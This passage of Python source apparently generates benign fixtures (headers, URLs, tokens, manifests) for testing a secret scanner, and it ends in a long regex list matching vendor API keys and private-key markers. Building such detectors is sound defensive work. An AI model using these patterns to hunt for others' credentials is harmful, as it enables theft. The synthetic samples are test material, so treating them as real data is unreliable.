                                                     qs([("response_type", "code"), ("client_id", pick([ruuid(), rs(12, DG) + "-" + rs(32, LN) + ".apps.googleusercontent.com"])),
                                                         ("redirect_uri", "https://%s/callback" % host()), ("scope", "openid profile email"), ("state", b64u(rb(24))),
                                                         ("nonce", b64u(rb(16))), ("code_challenge", b64u(rb(32))), ("code_challenge_method", "S256")])))
    return T(jdump({"client_name": pick(SVC), "client_id": ruuid(), "redirect_uris": ["https://%s/callback" % host()], "token_endpoint_auth_method": "none",
                    "grant_types": ["authorization_code", "refresh_token"], "jwks_uri": "https://%s/.well-known/jwks.json" % host()}), "application/json")


@N("webauthn-public-credentials", "bbb")
def _n_webauthn(where):
    cid = b64u(rb(32))
    cdj = b64u(jdump({"type": "webauthn.create", "challenge": b64u(rb(32)), "origin": "https://" + host(), "crossOrigin": False}))
    return T(jdump({"id": cid, "rawId": cid, "type": "public-key", "response": {"clientDataJSON": cdj, "attestationObject": "o2NmbXRkbm9uZWdhdHRTdG10oGhhdXRoRGF0YV" + b64u(rb(160))},
                    "authenticatorAttachment": "platform"}), "application/json")


@N("container-image-digests", "bbbbu")
def _n_digest(where):
    if where == "url":
        return T("https://ghcr.io/v2/%s/%s/blobs/sha256:%s" % (pick(ORGS), pick(SVC), rhex(64)))
    if chance(0.5):
        return T(jdump({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
                        "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:" + rhex(64), "size": rint(500, 2000),
                                       "platform": {"architecture": a, "os": "linux"}} for a in ["amd64", "arm64"]]}), "application/vnd.oci.image.index.v1+json")
    return T("\n".join("%s/%s@sha256:%s" % (pick(["docker.io/library", "ghcr.io/" + pick(ORGS), "quay.io/" + pick(ORGS)]), pick(SVC), rhex(64)) for _ in range(3)) + "\n", "text/plain")


@N("ipfs-content-ids", "bbbu")
def _n_ipfs(where):
    if where == "url":
        return T("https://ipfs.io/ipfs/%s/%s.json" % (pick([cid_v0(), cid_v1()]), rint(1, 9999)))
    return T(jdump({"name": "%s #%d" % (pick(WORDS).capitalize(), rint(1, 9999)), "image": "ipfs://" + cid_v1(), "animation_url": "ipfs://" + cid_v0()}), "application/json")


@N("error-reports-benign", "bbbb")
def _n_err(where):
    frames = "\n".join("    at %s (%s:%d:%d)" % (pick(["render", "dispatch", "fetchJson", "onClick"]), "/static/js/" + asset_name("js"), rint(1, 9), rint(100, 99999)) for _ in range(4))
    if chance(0.5):
        return T("TypeError: Cannot read properties of undefined (reading '%s')\n%s\nrequest_id=%s trace=%s\n" % (pick(WORDS), frames, ruuid(), rhex(32)), "text/plain")
    return T("panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x0 pc=0x%s]\n\ngoroutine %d [running]:\nmain.(*Server).handle(0xc000%s, 0x%s)\n" % (rhex(6), rint(1, 99), rhex(6), rhex(8)), "text/plain")


@N("scientific-data", "bbbb")
def _n_sci(where):
    if chance(0.5):
        rows = ["t,x,y,z"] + ["%.3f,%.6f,%.6f,%.6f" % (i * 0.01, R.gauss(0, 1), R.gauss(0, 1), R.gauss(0, 1)) for i in range(rint(10, 40))]
        return T("\n".join(rows) + "\n", "text/csv")
    seqs = "\n".join(">seq%d %s\n%s" % (i, pick(["16S rRNA", "COI", "ITS2"]), wrap(rs(rint(120, 300), "ACGT"), 60)) for i in range(rint(2, 4)))
    return T(seqs + "\n", "text/x-fasta")


@N("calendar-invites", "bbb")
def _n_ics(where):
    return T("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//%s//Calendar//EN\r\nBEGIN:VEVENT\r\nUID:%s@%s\r\nDTSTAMP:%sT%s00Z\r\nDTSTART:%sT090000Z\r\nSUMMARY:%s sync\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
             % (pick(ORGS).capitalize(), rhex(32), domain(), rdate().replace("-", ""), "%02d%02d" % (rint(0, 23), rint(0, 59)), rdate().replace("-", ""), pick(SVC)), "text/calendar")


@N("dkim-signed-email", "bbb")
def _n_dkim(where):
    d = domain()
    return T("DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=%s; s=selector%d;\r\n h=from:to:subject:date:message-id; bh=%s;\r\n b=%s\r\nMessage-ID: <%s@%s>\r\nFrom: %s\r\nTo: %s\r\nSubject: Weekly digest\r\n\r\nHello! Here is your weekly digest.\r\n"
             % (d, rint(1, 2), b64(rb(32)), "\r\n  ".join(wrap(b64(rb(256)), 70).split("\n")), rhex(24), d, email(), email()), "message/rfc822")


@N("html-pages", "bbbb")
def _n_html(where):
    nonce = b64(rb(16))
    return T('<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="csp-nonce" content="%s"><link rel="preload" href="/_next/static/css/%s" as="style">'
             '<script nonce="%s" src="/_next/static/chunks/%s" defer></script></head><body><div id="__next" data-build-id="%s"><h1>%s</h1></div></body></html>'
             % (nonce, asset_name("css"), nonce, asset_name("js"), rs(21, AN + "-_"), pick(WORDS).capitalize()), "text/html")


@N("sql-schema", "bbb")
def _n_sql(where):
    return T("CREATE TABLE users (\n  id uuid PRIMARY KEY DEFAULT gen_random_uuid(),\n  email text NOT NULL UNIQUE,\n  password_hash text NOT NULL,\n  api_key_hash char(64),\n  created_at timestamptz DEFAULT now()\n);\n"
             "CREATE INDEX idx_users_email ON users (email);\nINSERT INTO plans (id, name, price_cents) VALUES ('%s', 'pro', %d);\n" % (ruuid(), rint(500, 9900)), "application/sql")


@N("geodata", "bbbu")
def _n_geo(where):
    poly = "".join(chr(rint(63, 126)) for _ in range(rint(30, 90))).replace("\\", "_")
    if where == "url":
        return T("https://maps.%s/api/staticmap?size=600x300&path=enc:%s&center=%s" % (domain(), pq(poly), pq("%.5f,%.5f" % (R.uniform(-60, 60), R.uniform(-120, 120)))))
    return T(jdump({"type": "Feature", "geometry": {"type": "Point", "coordinates": [round(R.uniform(-180, 180), 6), round(R.uniform(-80, 80), 6)]},
                    "properties": {"geohash": rs(11, "0123456789bcdefghjkmnpqrstuvwxyz"), "plus_code": "8F%s+%s" % (rs(6, "23456789CFGHJMPQRVWX"), rs(2, "23456789CFGHJMPQRVWX")), "polyline": poly}}), "application/geo+json")


I18N = {"de": {"password": "Passwort", "forgot": "Passwort vergessen?", "api_key": "API-Schlüssel", "invalid_token": "Ungültiges Token", "secret": "Geheimnis", "save": "Speichern"},
        "fr": {"password": "Mot de passe", "forgot": "Mot de passe oublié ?", "api_key": "Clé d'API", "invalid_token": "Le jeton a expiré", "secret": "Secret", "save": "Enregistrer"},
        "ja": {"password": "パスワード", "forgot": "パスワードをお忘れですか？", "api_key": "APIキー", "invalid_token": "認証が必要です", "secret": "シークレット", "save": "保存"},
        "es": {"password": "Contraseña", "forgot": "¿Olvidaste tu contraseña?", "api_key": "Clave de API", "invalid_token": "Token no válido", "secret": "Secreto", "save": "Guardar"},
        "pl": {"password": "Hasło", "forgot": "Nie pamiętasz hasła?", "api_key": "Klucz API", "invalid_token": "Nieprawidłowy token", "secret": "Sekret", "save": "Zapisz"}}


@N("i18n-strings", "bbbb")
def _n_i18n(where):
    lang = pick(list(I18N))
    ns = pick(["login", "settings", "auth", "errors", "account", "integrations"])
    keys = list(I18N[lang])
    R.shuffle(keys)
    return T(jdump({"locale": lang, "messages": {"%s.%s" % (ns, k): I18N[lang][k] for k in keys[:rint(3, 6)]}}, indent=2), "application/json")


@N("ci-build-logs", "bbbb")
def _n_ci(where):
    lines = ["%s ##[group]Run actions/checkout@%s" % (rts(), rhex(40)), "%s Syncing repository: %s/%s" % (rts(), pick(ORGS), pick(SVC)),
             "%s Cache restored from key: node-cache-Linux-x64-npm-%s" % (rts(), rhex(64)), "%s env: TOKEN: ***" % rts(),
             "%s added %d packages in %ds" % (rts(), rint(100, 1500), rint(5, 90)), "%s Build artifact sha256:%s" % (rts(), rhex(64))]
    return T("\n".join(lines) + "\n", "text/plain")


@N("openapi-specs", "bbbb")
def _n_openapi(where):
    return T("openapi: 3.0.3\ninfo:\n  title: %s API\n  version: 1.%d.0\ncomponents:\n  securitySchemes:\n    ApiKeyAuth:\n      type: apiKey\n      in: header\n      name: X-API-Key\n"
             "    bearerAuth:\n      type: http\n      scheme: bearer\n      bearerFormat: JWT\nsecurity:\n  - ApiKeyAuth: []\npaths:\n  /v1/items:\n    get:\n      responses:\n        '200':\n          description: OK\n" % (pick(SVC).capitalize(), rint(0, 9)), "application/yaml")


@N("password-mentions-prose", "bbbb")
def _n_pwmention(where):
    t = pick(["I forgot my password and the reset link expired. How do I get a new one?", "Please use a password manager and enable two-factor authentication.",
              "Ich habe mein Passwort vergessen – wie kann ich es zurücksetzen?", "¿Dónde cambio la contraseña de mi cuenta?", "パスワードを忘れた場合はどうすればいいですか？",
              "The API key field is required; leave the secret empty if you use OAuth.", "Rotate tokens regularly and never share them in chat."])
    if chance(0.5):
        return T(jdump({"text": t}), "application/json")
    return T(t, "text/plain; charset=utf-8")


def stripe_pk():
    return pick(["pk_live_", "pk_test_"]) + "51" + rs(rint(60, 97), AN)


@N("publishable-keys", "bbbbhu")
def _n_pk(where):
    if where == "header":
        return T("X-Stripe-Publishable-Key: %s" % stripe_pk())
    if where == "url":
        return T("https://%s/checkout/init?publishable_key=%s&amount=%d" % (host(), stripe_pk(), rint(100, 99999)))
    c = rint(0, 2)
    if c == 0:
        return T("const stripe = Stripe('%s');\nconst elements = stripe.elements();\n" % stripe_pk(), "application/javascript")
    if c == 1:
        return T(jdump({"recaptcha_site_key": "6L" + rs(38, AN + "-_"), "stripe_publishable_key": stripe_pk()}), "application/json")
    return T("mapboxgl.accessToken = 'pk.%s.%s';\n" % (b64u(jdump({"u": ruser(), "a": rs(25, LN)})), rs(22, AN + "-_")), "application/javascript")


@N("webhook-signature-headers", "hhhhhhh")
def _n_sig(where):
    return T(pick(["X-Hub-Signature-256: sha256=%s" % rhex(64), "X-Hub-Signature: sha1=%s" % rhex(40), "Stripe-Signature: t=%d,v1=%s,v0=%s" % (repoch(), rhex(64), rhex(64)),
                   "X-Slack-Signature: v0=%s" % rhex(64), "X-Shopify-Hmac-Sha256: %s" % b64(rb(32)), "X-Twilio-Signature: %s" % b64(rb(20)),
                   "Svix-Signature: v1,%s" % b64(rb(32)), "X-Square-HmacSha256-Signature: %s" % b64(rb(32))]))


@N("trace-context-headers", "hhhhhhhhh")
def _n_trace(where):
    return T(pick(["traceparent: 00-%s-%s-01" % (rhex(32), rhex(16)), "tracestate: rojo=%s,congo=%s" % (rhex(16), b64(rb(8)).rstrip("=")),
                   "X-B3-TraceId: %s" % rhex(32), "X-Amzn-Trace-Id: Root=1-%s-%s;Parent=%s;Sampled=1" % (rhex(8), rhex(24), rhex(16)),
                   "X-Cloud-Trace-Context: %s/%d;o=1" % (rhex(32), rint(10 ** 8, 10 ** 11)), "sentry-trace: %s-%s-1" % (rhex(32), rhex(16)),
                   "baggage: sentry-environment=production,sentry-release=%s,sentry-trace_id=%s" % (rhex(12), rhex(32)),
                   "X-Request-ID: %s" % ruuid(), "uber-trace-id: %s:%s:0:1" % (rhex(16), rhex(16)), "X-Correlation-ID: %s" % rs(26, UN)]))


@N("etag-headers", "hhhhhh")
def _n_etag(where):
    return T(pick(['If-None-Match: "%s"' % rhex(40), 'If-None-Match: W/"%s-%s"' % (hex(rint(100, 99999))[2:], b64(rb(20)).rstrip("=")),
                   'If-Match: "%s"' % rhex(32), 'ETag: "%s-%d"' % (rhex(32), rint(2, 40)), "If-Modified-Since: Tue, %02d Jan 2025 %s GMT" % (rint(1, 28), rtime())]))


@N("benign-cookies", "hhhhh")
def _n_cookie(where):
    parts = ["_ga=GA1.1.%d.%d" % (rint(10 ** 8, 10 ** 9), repoch()), "_gid=GA1.2.%d.%d" % (rint(10 ** 8, 10 ** 9), repoch()),
             "theme=%s" % pick(["dark", "light"]), "locale=%s" % pick(["de-DE", "en-GB", "fr-FR"]), "cookieconsent_status=dismiss",
             "ajs_anonymous_id=%s" % ruuid(), "_gcl_au=1.1.%d.%d" % (rint(10 ** 8, 10 ** 9), repoch()), "sidebar_collapsed=true",
             "_hjSessionUser_%d=%s" % (rint(10 ** 5, 10 ** 7), b64(jdump({"id": ruuid(), "created": repoch() * 1000, "existing": True})).rstrip("="))]
    R.shuffle(parts)
    return T("Cookie: " + "; ".join(parts[:rint(2, 5)]))


UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
       "python-requests/2.32.3", "curl/8.7.1", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Go-http-client/2.0"]


@N("benign-request-headers", "hhhhhhhhhh")
def _n_hdr(where):
    return T(pick(["User-Agent: %s" % pick(UAS), "Accept: application/vnd.github+json", "Accept-Language: de-DE,de;q=0.9,en;q=0.8",
                   "Sec-WebSocket-Key: %s" % b64(rb(16)), "Digest: sha-256=%s" % b64(rb(32)), "Content-MD5: %s" % b64(rb(16)),
                   "X-Amz-Content-Sha256: %s" % rhex(64), "Content-Digest: sha-512=:%s:" % b64(rb(64)), "Range: bytes=%d-%d" % (rint(0, 1000), rint(2000, 90000)),
                   "X-Client-Data: %s" % b64(rb(rint(20, 60))), "Accept-Encoding: gzip, deflate, br, zstd"]))


@N("idempotency-keys", "hhh")
def _n_idem(where):
    return T(pick(["Idempotency-Key: %s" % ruuid(), "X-Idempotency-Key: %s" % rhex(32), "Idempotency-Key: %s-%s" % (pick(["order", "refund", "payout"]), rs(20, AN))]))


@N("client-hints-headers", "hhh")
def _n_ch(where):
    return T(pick(['Sec-CH-UA: "Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"', "Sec-CH-UA-Platform: \"macOS\"", "Sec-Fetch-Site: same-origin",
                   'Sec-CH-UA-Full-Version-List: "Chromium";v="124.0.6367.91", "Not-A.Brand";v="99.0.0.0"']))


@N("forwarding-headers", "hhh")
def _n_fwd(where):
    return T(pick(["X-Forwarded-For: %s, %s" % (rip(), rip()), "Forwarded: for=%s;proto=https;by=%s" % (rip(), rip()), "Via: 1.1 %s.cloudfront.net (CloudFront)" % rhex(32)]))


@N("api-version-headers", "hh")
def _n_apiver(where):
    return T(pick(["X-GitHub-Api-Version: 2022-11-28", "Stripe-Version: 2024-06-20", "Notion-Version: 2022-06-28", "anthropic-version: 2023-06-01", "OpenAI-Beta: assistants=v2"]))


@N("http-message-signatures", "hh")
def _n_httpsig(where):
    if chance(0.5):
        return T('Signature-Input: sig1=("@method" "@authority" "@path" "content-digest");created=%d;keyid="%s-ed25519"' % (repoch(), pick(ORGS)))
    return T("Signature: sig1=:%s:" % b64(rb(64)))


@N("certificate-fingerprints", "bbbh")
def _n_fp(where):
    fp = ":".join("%02X" % b for b in rb(32))
    if where == "header":
        return T("X-Client-Cert-Fingerprint: %s" % fp)
    return T("SHA256 Fingerprint=%s\nSHA1 Fingerprint=%s\nMAC addresses: %s\n" % (fp, ":".join("%02X" % b for b in rb(20)), ", ".join(":".join("%02x" % b for b in rb(6)) for _ in range(3))), "text/plain")


@N("base64-benign-content", "bbbh")
def _n_b64ok(where):
    if where == "header":
        return T("X-Goog-Visitor-Id: %s" % b64u(rb(12)))
    readme = "# %s\n\n%s\n" % (pick(SVC), pick(MULTI))
    return T(jdump({"message": "docs: update README", "content": b64(readme), "sha": rhex(40), "branch": "main"}), "application/json")


@N("url-encoded-benign", "bbbu")
def _n_urlok(where):
    txt = pick(MULTI)
    if where == "url":
        return T("https://%s/share?text=%s&url=%s" % (pick(["twitter.com/intent/tweet", "www.linkedin.com/sharing", "wa.me"]).split("/")[0], pq(txt), pq("https://%s/blog/%s" % (domain(), pick(WORDS)))))
    return T(qs([("subject", "Feedback"), ("message", txt), ("rating", str(rint(1, 5)))]), "application/x-www-form-urlencoded")


@N("hex-encoded-benign", "bbb")
def _n_hexok(where):
    s = pick(["Hello, world!", "The quick brown fox jumps over the lazy dog", "build %d complete" % rint(1, 999)])
    return T(jdump({"test_vector": {"input_hex": s.encode().hex(), "sha256": hashlib.sha256(s.encode()).hexdigest()}}), "application/json")


@N("binary-blob-fields", "bbb")
def _n_blob(where):
    return T(jdump({"state_vector": b64(rb(rint(64, 256))), "bloom": b64(rb(128)), "schema": "crdt/v2"}), "application/json")


@N("cdn-hashed-asset-urls", "uuuuuu")
def _n_cdn(where):
    return T(pick(["https://cdn.%s/static/js/%s" % (domain(), asset_name("js")), "https://%s.cloudfront.net/assets/%s" % (rs(14, LN), asset_name("css")),
                   "https://%s/_next/static/%s/_buildManifest.js" % (domain(), rs(21, AN + "-_")), "https://fonts.gstatic.com/s/inter/v13/%s.woff2" % rs(40, AN + "-_"),
                   "https://%s/assets/%s?v=%s" % (domain(), asset_name("png"), rhex(8))]))


@N("search-queries", "uuuuuu")
def _n_search(where):
    q = pick(["how to rotate api keys", "python jwt decode example", "best password manager 2025", "Wie funktioniert OAuth", "credit card validation luhn algorithm",
              "regex for aws access key", "kubernetes secret base64 decode", "mot de passe oublié gmail"])
    return T(pick(["https://www.google.com/search?q=%s&hl=en", "https://duckduckgo.com/?q=%s&ia=web", "https://www.bing.com/search?q=%s&form=QBLH",
                   "https://stackoverflow.com/search?q=%s"]) % pq(q))


@N("signed-urls", "uuuu")
def _n_signed(where):
    return T(pick(["https://%s/unsubscribe?email=%s&expires=%d&signature=%s" % (domain(), pq(email()), repoch(), rhex(64)),
                   "https://img.%s/%s/rs:fit:300:300/%s" % (domain(), b64u(rb(32)), b64u(("https://%s/%s.jpg" % (domain(), pick(WORDS))).encode())),
                   "https://%s/download/%s.zip?expires=%d&sig=%s" % (domain(), pick(WORDS), repoch(), b64u(rb(20))),
                   "https://%s/verify-email/%d/%s?expires=%d&signature=%s" % (domain(), rint(1, 99999), rhex(40), repoch(), rhex(64))]))


@N("api-resource-urls", "uuuuuu")
def _n_rest(where):
    return T(pick(["https://api.github.com/repos/%s/%s/pulls/%d/files?per_page=100" % (pick(ORGS), pick(SVC), rint(1, 9999)),
                   "https://%s/v1/customers/%s/invoices?status=open" % (host(), ruuid()), "https://%s/api/orders/%s" % (host(), rs(20, LN + DG)),
                   "https://registry.npmjs.org/%s/-/%s-%d.%d.%d.tgz" % (pick(WORDS), pick(WORDS), rint(0, 9), rint(0, 30), rint(0, 30)),
                   "https://files.pythonhosted.org/packages/%s/%s/%s/%s-1.%d.0-py3-none-any.whl" % (rhex(2), rhex(2), rhex(60), pick(WORDS), rint(0, 9))]))


@N("media-ids", "uuuu")
def _n_media(where):
    return T(pick(["https://www.youtube.com/watch?v=%s&t=%ds" % (rs(11, AN + "-_"), rint(1, 900)), "https://open.spotify.com/track/%s?si=%s" % (rs(22, AN), rhex(16)),
                   "https://vimeo.com/%d" % rint(10 ** 7, 10 ** 9), "https://i.imgur.com/%s.jpeg" % rs(7, AN)]))


@N("tracking-parameters", "uuu")
def _n_track(where):
    return T("https://%s/%s?utm_source=%s&utm_medium=cpc&utm_campaign=%s&%s" % (domain(), pick(WORDS), pick(["google", "newsletter", "facebook"]), pick(WORDS),
                                                                             pick(["gclid=%s" % rs(rint(80, 95), AN + "_-"), "fbclid=IwAR%s" % rs(58, AN + "_-"), "msclkid=%s" % rhex(32)])))


def hn_ok(h):
    return len(h) <= 253 and all(re.fullmatch(r"[A-Za-z0-9]([A-Za-z0-9-]{0,61}[A-Za-z0-9])?", l) for l in h.split("."))


@N("cloud-service-hostnames", "nnnnnnnnn")
def _n_cloudhost(where):
    return T(pick(["ec2-%d-%d-%d-%d.compute-1.amazonaws.com" % (rint(3, 54), rint(0, 255), rint(0, 255), rint(1, 254)),
                   "%s-%d.%s.elb.amazonaws.com" % (pick(SVC), rint(10 ** 8, 2 * 10 ** 9), pick(["us-east-1", "eu-west-1"])),
                   "%s.execute-api.%s.amazonaws.com" % (rs(10, LN), pick(["us-east-1", "ap-south-1"])),
                   "%s.lambda-url.%s.on.aws" % (rs(32, LN), pick(["eu-central-1", "us-west-2"])),
                   "%s.%s.%s.rds.amazonaws.com" % (pick(SVC), rs(12, LN), pick(["eu-west-1", "us-east-2"])),
                   "%s%s.blob.core.windows.net" % (pick(ORGS).replace("-", ""), rs(6, LN)),
                   "%s-%s-uc.a.run.app" % (pick(SVC), rs(10, LN)), "cluster0-shard-00-0%d.%s.mongodb.net" % (rint(0, 2), rs(5, LN)),
                   "%s.%s.svc.cluster.local" % (pick(SVC), pick(["default", "prod", "monitoring"])), "%s-%s.herokuapp.com" % (pick(SVC), rhex(12))]))


@N("preview-deployment-hostnames", "nnnnnnn")
def _n_preview(where):
    return T(pick(["%s-git-%s-%s.vercel.app" % (pick(SVC), pick(["feature-login", "fix-nav", "main"]), pick(ORGS)), "%s--%s.netlify.app" % (rhex(24), pick(SVC)),
                   "%s-%s-%s-%s.app.github.dev" % (pick(FIRST), pick(SVC), rs(20, LN), pick(["3000", "8080"])), "%s.%s.workers.dev" % (pick(SVC), pick(ORGS)),
                   "pr-%d.%s.preview.%s" % (rint(1, 9999), pick(SVC), domain()), "%s.ngrok-free.app" % "-".join(str(rint(1, 254)) for _ in range(4))]))


@N("cdn-hostnames", "nnnnnn")
def _n_cdnhost(where):
    return T(pick(["%s.cloudfront.net" % rs(14, LN), "%s.azureedge.net" % pick(ORGS), "%s.b-cdn.net" % pick(SVC), "%s.fastly.net" % pick(SVC),
                   "%s.cdn.%s" % (rhex(16), domain()), "%s.akamaized.net" % ("%s-%s" % (pick(ORGS), rs(4, LN)))]))


@N("idn-hostnames", "nnn")
def _n_idn(where):
    return T(pick(["münchen-bäckerei.de", "bücher.example", "日本語.jp", "пример.рф", "café-crème.fr", "straße.de", "ελληνικά.gr"]).encode("idna").decode())


@N("content-addressed-hostnames", "nnn")
def _n_cahost(where):
    return T(pick(["%s.ipfs.dweb.link" % cid_v1(), "%s.ipfs.w3s.link" % cid_v1(), "%s.ipns.dweb.link" % ("k51qzi5uqu5d" + rs(50, "abcdefghijklmnopqrstuvwxyz234567")[:50])]))


@N("terraform-state-benign", "bbb")
def _n_tfstate(where):
    acct = rs(12, DG)
    res = [{"mode": "managed", "type": "aws_s3_bucket", "name": pick(SVC).replace("-", "_"), "provider": "provider[\"registry.terraform.io/hashicorp/aws\"]",
            "instances": [{"schema_version": 0, "attributes": {"id": "%s-%s" % (pick(ORGS), pick(SVC)), "arn": "arn:aws:s3:::%s-%s" % (pick(ORGS), pick(SVC)),
                                                              "bucket_regional_domain_name": "%s.s3.eu-west-1.amazonaws.com" % pick(SVC), "hosted_zone_id": "Z" + rs(13, UN)}}]},
           {"mode": "managed", "type": "aws_iam_role", "name": "ci", "instances": [{"attributes": {"arn": "arn:aws:iam::%s:role/ci" % acct, "unique_id": rs(21, UN), "id": "ci"}}]}]
    return T(jdump({"version": 4, "terraform_version": "1.%d.%d" % (rint(5, 9), rint(0, 9)), "serial": rint(1, 900), "lineage": ruuid(), "outputs": {}, "resources": res}, indent=2), "application/json")


@N("package-manifests", "bbbb")
def _n_pkgmanifest(where):
    c = rint(0, 2)
    if c == 0:
        return T(jdump({"name": "@%s/%s" % (pick(ORGS), pick(SVC)), "version": "%d.%d.%d" % (rint(0, 5), rint(0, 30), rint(0, 30)), "private": True,
                        "scripts": {"build": "tsc -p .", "test": "vitest run"}, "dependencies": {pick(WORDS): "^%d.%d.0" % (rint(1, 9), rint(0, 20)) for _ in range(4)},
                        "packageManager": "pnpm@9.%d.%d+sha512.%s" % (rint(0, 9), rint(0, 9), rhex(128))}, indent=2), "application/json")
    if c == 1:
        return T("\n".join("%s==%d.%d.%d \\\n    --hash=sha256:%s" % (pick(WORDS), rint(0, 9), rint(0, 30), rint(0, 9), rhex(64)) for _ in range(rint(3, 6))) + "\n", "text/plain")
    return T('[project]\nname = "%s"\nversion = "0.%d.0"\ndependencies = ["httpx>=0.27", "pydantic>=2"]\n\n[tool.ruff]\nline-length = 100\n' % (pick(SVC), rint(1, 20)), "application/toml")


@N("webhook-event-payloads", "bbbb")
def _n_event(where):
    if chance(0.5):
        return T(jdump({"ref": "refs/heads/main", "before": rhex(40), "after": rhex(40), "repository": {"id": rint(10 ** 6, 9 * 10 ** 8), "node_id": "R_kgDO" + rs(6, AN), "full_name": "%s/%s" % (pick(ORGS), pick(SVC))},
                        "head_commit": {"id": rhex(40), "tree_id": rhex(40), "message": "fix typo", "timestamp": rts()}}), "application/json")
    return T(jdump({"id": "evt_" + rs(24, AN), "object": "event", "type": "invoice.paid", "created": repoch(), "data": {"object": {"id": "in_" + rs(24, AN), "amount_paid": rint(100, 99999), "currency": "eur"}}}), "application/json")


@N("readme-with-examples", "bbbb")
def _n_readme(where):
    var = pick(SVC).upper().replace("-", "_") + "_TOKEN"
    return T("# %s\n\n## Quick start\n\n```bash\nexport %s=<your token>\ncurl -H \"Authorization: Bearer $%s\" https://api.%s/v1/items\n```\n\n"
             "The token is shown once when you create it in **Settings → Tokens**. Store it in your CI secret store.\n" % (pick(SVC).capitalize(), var, var, domain()), "text/markdown")


@N("svg-images", "bbb")
def _n_svg(where):
    d = " ".join("%s%.2f,%.2f" % (pick("MLCQ"), R.uniform(0, 100), R.uniform(0, 100)) for _ in range(rint(10, 40)))
    return T('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" id="i-%s"><path fill="#%s" d="%s Z"/></svg>' % (rhex(8), rhex(6), d), "image/svg+xml")


@N("object-storage-listings", "bbb")
def _n_s3xml(where):
    items = "".join("<Contents><Key>%s/%s.parquet</Key><LastModified>%s</LastModified><ETag>&quot;%s&quot;</ETag><Size>%d</Size><StorageClass>STANDARD</StorageClass></Contents>"
                    % (pick(["raw", "curated"]), rhex(16), rts(), rhex(32), rint(1000, 10 ** 7)) for _ in range(rint(2, 5)))
    return T('<?xml version="1.0" encoding="UTF-8"?><ListBucketResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Name>%s-data</Name><KeyCount>5</KeyCount>%s'
             '<NextContinuationToken>%s</NextContinuationToken></ListBucketResult>' % (pick(ORGS), items, b64(rb(60))), "application/xml")

# ---------------------------------------------------------------- negative hygiene checks
VENDOR_RX = re.compile("|".join([
    r"A(?:KIA|SIA|GPA|IDA|ROA|NPA|NVA)[A-Z2-7]{16}", r"AIza[0-9A-Za-z_-]{30}", r"GOCSPX-", r"ya29\.[\w-]{20}", r"1//0[\w-]{30}",
    r"gh[pousr]_[A-Za-z0-9]{20}", r"github_pat_", r"gl(?:pat|dt|rt|ptt|oas|cbt|soat|ft|imt)-[\w-]{15}", r"GR1348941",
    r"ATBB[A-Za-z0-9]{20}", r"ATATT[\w-]{20}", r"\bsk-[\w-]{20}", r"sk-ant-", r"\bhf_[A-Za-z]{20}", r"\br8_[A-Za-z0-9]{20}", r"gsk_[A-Za-z0-9]{20}",
    r"pplx-[A-Za-z0-9]{20}", r"xai-[A-Za-z0-9]{20}", r"lsv2_", r"\b[sr]k_(?:live|test)_[A-Za-z0-9]{10}", r"whsec_", r"EAAA[\w-]{30}", r"sq0(?:atp|csp|idp)-",
    r"access_token\$", r"shp(?:at|ca|pa|ss)_[0-9a-f]{10}", r"xox[abposre]-[0-9A-Za-z-]{10}", r"xapp-\d", r"hooks\.slack\.com/services/",
    r"discord(?:app)?\.com/api/webhooks/", r"\b\d{8,10}:AA[\w-]{30}", r"\bAC[0-9a-f]{32}\b", r"\bSK[0-9a-f]{32}\b", r"SG\.[\w-]{20}\.",
    r"key-[0-9a-f]{32}", r"\b[0-9a-f]{32}-us\d{1,2}\b", r"xkeysib-", r"webhook\.office\.com/webhookb2", r"\bnpm_[A-Za-z0-9]{30}", r"pypi-AgE",
    r"dckr_pat_", r"\.atlasv1\.", r"\bhv[sbr]\.[\w-]{20}", r"\bdp\.(?:st|pt|sa|ct|scim|audit)\.", r"\bpul-[0-9a-f]{30}", r"HRKU-", r"\bdo[por]_v1_",
    r"lin_api_", r"\bntn_\d", r"\bsecret_[A-Za-z0-9]{40}", r"\bdapi[0-9a-f]{30}", r"NRAK-", r"NRII-", r"NRJS-", r"[0-9a-f]{36}NRAL", r"sntry[su]_",
    r"glsa_", r"\bglc_[A-Za-z0-9+/]{20}", r"SSWS ", r"AKCp[A-Za-z0-9]{20}", r"cmVmdGtuOjAxOj", r"\bsq[upa]_[0-9a-f]{30}", r"PMAK-",
    r"\bpat[A-Za-z0-9]{14}\.[0-9a-f]{20}", r"figd_", r"\bsl\.[\w-]{60}", r"\bsk\.eyJ", r":APA91b", r"\bEAA[BGCJ][A-Za-z0-9]{30}", r"AAAAAAAAAAAAAAAAAAAA",
    r"pat-(?:na|eu)1-", r"tskey-", r"ops_eyJ", r"\bA3-[A-Z0-9]{6}-", r"dt0c01\.", r"v1\.0-[0-9a-f]{24}-", r"nfp_", r"\bsbp_[0-9a-f]{20}", r"pscale_",
    r"rubygems_", r"\boy2[a-z0-9]{40}", r"sgp_", r"\bEZ[AT]K[0-9a-f]{20}", r"FLWSECK", r"\b00D[A-Za-z0-9]{12}!", r"\baio_[A-Za-z0-9]{20}", r"cloudinary://",
    r"bkua_", r"CCIPAT_", r"\bpnu_", r"\bc[ks]_[0-9a-f]{40}", r"CFPAT-", r"\bAQVN[\w-]{30}", r"amzn\.mws\.", r"\bphx_", r"\bLTAI[A-Za-z0-9]{12}", r"\bAKID[A-Za-z0-9]{20}",
    r"AGE-SECRET-KEY-", r"\bnsec1", r"\b[xtyz]prv[1-9A-HJ-NP-Za-km-z]{100}", r"b3BlbnNzaC1rZXktdjE", r"PuTTY-User-Key-File", r"PRIVATE KEY", r"FlyV1 ",
